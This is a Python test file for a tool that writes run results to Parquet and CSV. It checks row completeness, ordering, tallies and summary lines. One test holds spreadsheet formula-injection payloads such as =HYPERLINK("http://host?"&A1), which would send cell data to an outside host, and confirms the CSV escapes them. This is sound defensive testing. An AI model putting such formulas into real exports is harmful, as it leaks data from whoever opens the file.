"""Test the results of a run. If these break, a lost row goes unseen, or a catalog runs a formula in
the spreadsheet of whoever opens the results."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, get_args

import pyarrow.parquet
import pytest

from ace_tasks.errors import BrokenRun
from ace_tasks.model.variants import find_variant
from ace_tasks.provenance.keys import record_key
from ace_tasks.provenance.outcomes import Done, Failed
from ace_tasks.runs import results
from ace_tasks.runs.results import FAILED_STATUSES, Result, ResultsWriter, Status, Summary, Tally
from ace_tasks.specs import Source, Sources, WorkItem, parse_spec, work_item

RESULTS = {
    "done": Result(
        line=1,
        row_id="a",
        task="fill",
        status="done",
        hint_codes="label_map,inverted_mask",
        hints="a map?; inverted?",
        item_id="01" * 32,
        output_uri="s3://b/images/a/x.png",
        sha256="ff" * 32,
        seconds=1.25,
    ),
    "done_before": Result(
        line=2, row_id="b", task="edit", status="done_before", item_id="02" * 32, same_as="a"
    ),
    "failed": Result(
        line=3,
        row_id="c",
        task="edit",
        status="failed",
        item_id="03" * 32,
        error_code="bad_mask",
        error='says "no", and\nmore: é',
    ),
    "failed_before": Result(
        line=4,
        row_id="d",
        task="edit",
        status="failed_before",
        item_id="04" * 32,
        error_code="bad_mask",
        error="why",
    ),
    "rejected": Result(
        line=5, row_id=None, task=None, status="rejected", error_code="bad_row", error="id: missing"
    ),
    "forgotten": Result(line=6, row_id=None, task=None, status="forgotten", error="was forgotten"),
}


@pytest.fixture
def item() -> WorkItem:
    row = {"id": "a", "task": "edit", "image": "s3://b/i", "prompt": "p"}
    sources = Sources(image=Source(uri="s3://b/i", etag="1"))
    return work_item(9, parse_spec(row), sources, find_variant("toy").identity())


def write(folder: Path, rows: list[Result]) -> tuple[list[dict[str, Any]], list[dict[str, str]]]:
    """Write the rows; return those of the Parquet file and those of the CSV file."""
    parquet_path, csv_path = folder / "results.parquet", folder / "results.csv"
    with ResultsWriter(parquet_path, csv_path) as writer:
        for row in rows:
            writer.write(row)
    with csv_path.open(newline="") as file:
        return pyarrow.parquet.read_table(parquet_path).to_pylist(), [*csv.DictReader(file)]


def test_there_is_an_example_of_every_status() -> None:
    assert RESULTS.keys() == set(get_args(Status))
    assert {status for status, each in RESULTS.items() if each.error_code} == FAILED_STATUSES


@pytest.mark.parametrize("result", RESULTS.values(), ids=RESULTS)
def test_parquet_and_csv_agree_on_every_status(tmp_path: Path, result: Result) -> None:
    (in_parquet,), (in_csv,) = write(tmp_path, [result])
    assert [*in_parquet] == [*in_csv]
    assert {k: "" if v is None else str(v) for k, v in in_parquet.items()} == in_csv
    for name in Result.__dataclass_fields__:
        assert in_parquet[name] == getattr(result, name)
    done = result.status in {"done", "done_before"}
    assert in_parquet["record"] == (record_key(str(result.item_id)) if done else None)


def test_many_results_are_streamed_in_order(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(results, "_BATCH_ROWS", 10)
    rows = [Result(line=n, row_id=str(n), task="fill", status="done") for n in range(25)]
    in_parquet, in_csv = write(tmp_path, rows)
    assert [row["line"] for row in in_parquet] == [*range(25)]
    assert [row["line"] for row in in_csv] == [str(n) for n in range(25)]
    assert pyarrow.parquet.ParquetFile(tmp_path / "results.parquet").num_row_groups == 3


def test_a_run_without_rows_still_leaves_its_columns(tmp_path: Path) -> None:
    assert write(tmp_path, []) == ([], [])
    assert pyarrow.parquet.read_schema(tmp_path / "results.parquet").equals(results.SCHEMA)


def test_an_outcome_becomes_the_result_of_its_row(item: WorkItem) -> None:
    done = Done(item_id=item.item_id, output_uri="s3://b/o", sha256="ff", seconds=2.5, score=0.5)
    assert Result.of(item, done) == Result(
        line=9,
        row_id="a",
        task="edit",
        status="done",
        item_id=item.item_id,
        output_uri="s3://b/o",
        sha256="ff",
        seconds=2.5,
        score=0.5,
    )
    hinted = done.model_copy(update={"hints": {"label_map": "a map?", "soft_mask": "soft?"}})
    result = Result.of(item, hinted)
    assert (result.hint_codes, result.hints) == ("label_map,soft_mask", "a map?; soft?")
    failed = Failed(item_id=item.item_id, code="timeout", message="why", transient=False)
    assert Result.of(item, failed) == Result(
        line=9,
        row_id="a",
        task="edit",
        status="failed",
        item_id=item.item_id,
        error_code="timeout",
        error="why",
    )


@pytest.mark.parametrize("expected", [5, 7, 0])
def test_a_row_lost_or_reported_twice_breaks_the_run(tmp_path: Path, expected: int) -> None:
    with ResultsWriter(tmp_path / "r.parquet", tmp_path / "r.csv") as writer:
        for result in RESULTS.values():
            writer.write(result)
        with pytest.raises(
            BrokenRun, match=f"read {expected} rows, but found results for 6: .*'rejected': 1"
        ):
            writer.check_complete(expected)
        writer.check_complete(6)


def test_the_tally_counts_by_status_and_by_error() -> None:
    tally = Tally()
    for result in [*RESULTS.values(), RESULTS["done"]]:
        tally.add(result)
    assert (tally.total, tally.not_done) == (7, 3)
    assert tally.by_status["done"] == 2
    assert dict(tally.by_error) == {"bad_mask": 2, "bad_row": 1}
    assert (tally.hinted, dict(tally.by_hint)) == (2, {"label_map": 2, "inverted_mask": 2})


def test_a_formula_is_disarmed_in_the_csv_only(tmp_path: Path) -> None:
    """Messages and rejected rows quote the catalog; a spreadsheet would run them."""
    texts = [f'{start}HYPERLINK("http://host?"&A1)' for start in "=+-@\t\r"]
    rows = [
        Result(line, text, text, status="rejected", error_code="bad_row", error=text)
        for line, text in enumerate(texts, 1)
    ]
    # Here the id is a valid one, which joins the table to its catalog.
    rows.append(replace(rows[0], line=9, row_id="-a", task="edit", status="failed"))
    in_parquet, in_csv = write(tmp_path, rows)
    disarmed = [f"'{text}" for text in texts]
    assert [row["error"] for row in in_parquet] == [*texts, texts[0]]
    assert [row["error"] for row in in_csv] == [*disarmed, disarmed[0]]
    for name, valid in (("row_id", "-a"), ("task", "edit")):
        assert [row[name] for row in in_parquet] == [*texts, valid]
        assert [row[name] for row in in_csv] == [*disarmed, valid]


SUMMED_UP = {  # name: (counts, the line)
    "all done": ({"rows": 3, "done": 3}, "3 done, 0 done before, of 3 rows"),
    "all done before": ({"rows": 3, "done_before": 3}, "0 done, 3 done before, of 3 rows"),
    "of each some": (
        {"rows": 15, "done": 1, "done_before": 2, "failed": 3, "failed_before": 4, "rejected": 5},
        "1 done, 2 done before, 7 failed, 5 rejected, of 15 rows",
    ),
}


def summed_up(**counts: Any) -> Summary:
    zero = dict.fromkeys(("done", "done_before", "failed", "failed_before", "rejected"), 0)
    moment = datetime(2025, 1, 1, tzinfo=UTC)
    return Summary(
        run_id="r",
        state="Completed",
        catalog="c",
        output="o",
        variant="toy",
        started_at=moment,
        ended_at=moment,
        shared=0,
        by_error={},
        replicas=1,
        deaths=0,
        seconds=1,
        items_per_second=1,
        busy_share=None,
        results="r.csv",
        failures=None,
        rejects=None,
        **(zero | counts),
    )


def test_the_summary_line_counts_masks_to_check() -> None:
    given = {"rows": 4, "done": 4, "hinted": 3}
    summary = summed_up(by_hint={"soft_mask": 1, "label_map": 2, "inverted_mask": 1}, **given)
    kinds = "label_map 2, inverted_mask 1, soft_mask 1"
    assert summary.line == f"4 done, 0 done before, of 4 rows; masks to check: 3 ({kinds})"


@pytest.mark.parametrize(("counts", "line"), SUMMED_UP.values(), ids=SUMMED_UP)
def test_the_summary_line_says_what_happened(counts: dict[str, int], line: str) -> None:
    summary = summed_up(**counts)
    assert summary.line == line
    assert Summary.model_validate_json(summary.model_dump_json()) == summary
